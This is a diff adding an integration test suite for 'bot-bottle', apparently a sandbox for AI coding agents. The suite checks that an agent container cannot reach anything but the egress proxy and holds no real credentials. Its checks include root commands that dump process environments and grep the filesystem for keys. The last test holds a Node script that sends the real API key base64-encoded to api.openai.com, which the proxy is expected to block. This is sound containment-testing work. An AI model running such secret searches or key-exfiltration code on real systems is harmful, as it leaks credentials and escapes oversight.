@@ -1,0 +1,249 @@
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { networkInterfaces } from 'node:os';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import {
+  bottleRepo,
+  leftovers,
+  REAL_KEYS,
+  runBin,
+  useFakeUpstream,
+  type BinRun,
+} from '../helpers/bottle-repo.js';
+import { describeDocker, dockerOut } from '../helpers/docker.js';
+import type { Fixture } from '../helpers/fixture.js';
+import { md } from '../helpers/fixture.js';
+
+const PROBES = readFileSync(`${import.meta.dirname}/../fixtures/escape-probes.cjs`, 'utf8');
+
+/** What counts as getting out: a probe outcome that starts with one of these. */
+const ESCAPED =
+  /^(CONNECTED|RESOLVED|ANSWERED|HTTP\/1\.1 200|HTTP\/1\.1 [345]0[0-9] (?!Forbidden)|PING SENT|PRESENT)/;
+
+function inAgent(
+  slug: string,
+  argv: string[],
+  opts: { user?: string; input?: string } = {},
+): string {
+  return execFileSync(
+    'docker',
+    [
+      'exec',
+      '-i',
+      ...(opts.user === undefined ? [] : ['--user', opts.user]),
+      `bot-bottle-${slug}`,
+      ...argv,
+    ],
+    {
+      encoding: 'utf8',
+      input: opts.input ?? '',
+      maxBuffer: 64 * 1024 * 1024,
+      timeout: 120_000,
+      // Unreadable files and processes are expected noise for the searches.
+      stdio: ['pipe', 'pipe', 'pipe'],
+    },
+  );
+}
+
+function ipOn(container: string, network: string): string {
+  return dockerOut([
+    'inspect',
+    '--format',
+    `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`,
+    container,
+  ]);
+}
+
+/**
+ * Security invariants 1 and 2 under attack, from inside a real agent
+ * container of a running bottle (Claude Code held mid-request by the fake
+ * upstream), with a second bottle running next to it.
+ */
+describeDocker(
+  'escape suite: nothing but the egress proxy is reachable, and no secret is inside',
+  () => {
+    const upstream = useFakeUpstream();
+    let fx: Fixture;
+    const runs: Promise<BinRun>[] = [];
+    let results: Record<string, string> = {};
+
+    beforeAll(async () => {
+      fx = bottleRepo(upstream().port, {
+        repo: {
+          '.bot-bottle/bottles/escape.md': md(`
+extends: fake
+egress:
+  allow: [localhost, denied.example.test]
+  deny: [denied.example.test]
+`),
+          '.bot-bottle/agents/holder.md': md(
+            'provider: claude\nbottle: escape',
+            'You are terse.\n',
+          ),
+        },
+      });
+      for (const label of ['esc-a', 'esc-b']) {
+        const before = upstream().requests.length;
+        runs.push(
+          runBin(fx, ['start', 'holder', '--headless', '--label', label, '--prompt', 'HOLD']),
+        );
+        await upstream().waitFor(
+          (r) => upstream().requests.indexOf(r) >= before && r.path.startsWith('/v1/messages'),
+          180_000,
+        );
+      }
+      const gateway = (net: string): string =>
+        dockerOut(['network', 'inspect', '--format', '{{(index .IPAM.Config 0).Gateway}}', net]);
+      const internalId = dockerOut([
+        'network',
+        'inspect',
+        '--format',
+        '{{.Id}}',
+        'bot-bottle-esc-a-internal',
+      ]).slice(0, 12);
+      let bridgeLinkLocal = 'fe80::1';
+      try {
+        const ip = execFileSync('ip', ['-6', 'addr', 'show', `br-${internalId}`], {
+          encoding: 'utf8',
+        });
+        bridgeLinkLocal = /inet6 (fe80::[0-9a-f:]+)/.exec(ip)?.[1] ?? bridgeLinkLocal;
+      } catch {
+        // No iproute2 on this host: probe a link-local address that would be the bridge's.
+      }
+      const hostAddress =
+        Object.values(networkInterfaces())
+          .flat()
+          .find((i) => i?.family === 'IPv4' && !i.internal && !i.address.startsWith('172.'))
+          ?.address ?? '192.0.2.2';
+      const targets = {
+        hostPort: upstream().port,
+        dockerGateway: gateway('bridge'),
+        hostAddress,
+        internalGateway: gateway('bot-bottle-esc-a-internal'),
+        otherAgent: ipOn('bot-bottle-esc-b', 'bot-bottle-esc-b-internal'),
+        otherSidecar: ipOn('bot-bottle-esc-b-egress', 'bot-bottle-esc-b-egress'),
+        sidecarEgressSide: ipOn('bot-bottle-esc-a-egress', 'bot-bottle-esc-a-egress'),
+        bridgeLinkLocal,
+        exfilLabel: Buffer.from('stolen-data').toString('hex'),
+      };
+      results = JSON.parse(
+        inAgent('esc-a', ['node', '-', JSON.stringify(targets)], { input: PROBES }),
+      ) as Record<string, string>;
+    }, 400_000);
+
+    afterAll(async () => {
+      for (const label of ['esc-a', 'esc-b']) await runBin(fx, ['stop', label]);
+      await Promise.all(runs);
+      expect(leftovers('esc-a') + leftovers('esc-b')).toBe('');
+      fx.cleanup();
+    }, 200_000);
+
+    it('refuses every escape vector (at least 15)', () => {
+      const entries = Object.entries(results);
+      expect(entries.length).toBeGreaterThanOrEqual(15);
+      const escaped = entries.filter(([, outcome]) => ESCAPED.test(outcome));
+      expect(escaped, JSON.stringify(results, null, 2)).toEqual([]);
+    });
+
+    it('answers proxy-level attacks with a 403 naming the rule', () => {
+      expect(results).toMatchObject({
+        'CONNECT to a denied host': 'HTTP/1.1 403 Forbidden [deny denied.example.test]',
+        'CONNECT to a host not on the allowlist': 'HTTP/1.1 403 Forbidden [no-allow-match]',
+        'CONNECT to an IP literal': 'HTTP/1.1 403 Forbidden [no-allow-match]',
+        'CONNECT to a private address': 'HTTP/1.1 403 Forbidden [private-address private]',
+        'CONNECT to a decimal-notation loopback':
+          'HTTP/1.1 403 Forbidden [private-address loopback]',
+        'CONNECT to an IPv4-mapped IPv6 address':
+          'HTTP/1.1 403 Forbidden [private-address private]',
+        'CONNECT to a name that resolves to a private address':
+          'HTTP/1.1 403 Forbidden [private-address loopback]',
+        'SNI differing from the CONNECT host': 'HTTP/1.1 403 Forbidden [sni-mismatch]',
+        'Host header differing from the CONNECT host': 'HTTP/1.1 403 Forbidden [host-mismatch]',
+        'plain http to a denied host': 'HTTP/1.1 403 Forbidden [deny denied.example.test]',
+        'plain http to the metadata address': 'HTTP/1.1 403 Forbidden [private-address linkLocal]',
+      });
+    });
+
+    it('never puts the real credentials or the CA key inside the agent container', () => {
+      const secrets = JSON.parse(
+        execFileSync(
+          'docker',
+          ['exec', 'bot-bottle-esc-a-egress', 'cat', '/run/bot-bottle/secrets.json'],
+          {
+            encoding: 'utf8',
+          },
+        ),
+      ) as { caKeyPem: string; values: Record<string, string> };
+      // The sidecar holds them (so the search below looks for the right strings).
+      expect(Object.values(secrets.values)).toContain(REAL_KEYS.anthropic);
+      const caKeyLine = secrets.caKeyPem.split('\n')[1] ?? '';
+      expect(caKeyLine.length).toBeGreaterThan(40);
+      const needles = [REAL_KEYS.anthropic, REAL_KEYS.openai, caKeyLine];
+
+      const places: Record<string, string> = {
+        'environment of every process': inAgent(
+          'esc-a',
+          ['sh', '-c', 'cat /proc/[0-9]*/environ | tr "\\0" "\\n"'],
+          { user: '0' },
+        ),
+        'arguments of every process': inAgent(
+          'esc-a',
+          ['sh', '-c', 'cat /proc/[0-9]*/cmdline | tr "\\0" " "'],
+          { user: '0' },
+        ),
+        'container config': dockerOut(['inspect', 'bot-bottle-esc-a']),
+        'image history': dockerOut([
+          'history',
+          '--no-trunc',
+          dockerOut(['inspect', '--format', '{{.Config.Image}}', 'bot-bottle-esc-a']),
+        ]),
+        'container log': execFileSync('docker', ['logs', 'bot-bottle-esc-a'], { encoding: 'utf8' }),
+      };
+      // The whole filesystem, as root, one grep per needle (matching file names are listed).
+      for (const [i, n] of needles.entries()) {
+        places[`filesystem (needle ${i})`] = inAgent(
+          'esc-a',
+          [
+            'sh',
+            '-c',
+            'grep -rlF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -f /dev/stdin / || true',
+          ],
+          { user: '0', input: `${n}\n` },
+        );
+      }
+      expect(places['environment of every process']).toContain(
+        'ANTHROPIC_API_KEY=bot-bottle-placeholder',
+      );
+      for (const [where, text] of Object.entries(places)) {
+        for (const [i, n] of needles.entries()) {
+          expect(text.includes(n), `needle ${i} found in ${where}`).toBe(false);
+        }
+      }
+    });
+
+    it('blocks the real key on its way to an allowed host that is not its route', () => {
+      const leak = `
+      const net = require('node:net'), tls = require('node:tls');
+      const key = require('node:fs').readFileSync(0, 'utf8').trim();
+      const s = net.connect(3128, 'egress', () => s.write('CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\n\\r\\n'));
+      s.once('data', () => {
+        const t = tls.connect({ socket: s, servername: 'api.openai.com' }, () => {
+          const body = JSON.stringify({ note: Buffer.from(key).toString('base64') });
+          t.write('POST /v1/files HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Type: application/json\\r\\nContent-Length: ' + body.length + '\\r\\nConnection: close\\r\\n\\r\\n' + body);
+        });
+        let got = ''; t.on('data', (d) => (got += d)); t.on('end', () => console.log(got));
+      });`;
+      const before = upstream().requests.length;
+      const out = inAgent('esc-a', ['sh', '-c', `node -e "$0"`, leak], {
+        input: REAL_KEYS.anthropic,
+      });
+      expect(out).toMatch(/^HTTP\/1\.1 403/);
+      expect(out).toContain('bottle-secret');
+      expect(
+        upstream()
+          .requests.slice(before)
+          .some((r) => r.path === '/v1/files'),
+      ).toBe(false);
+    });
+  },
+);
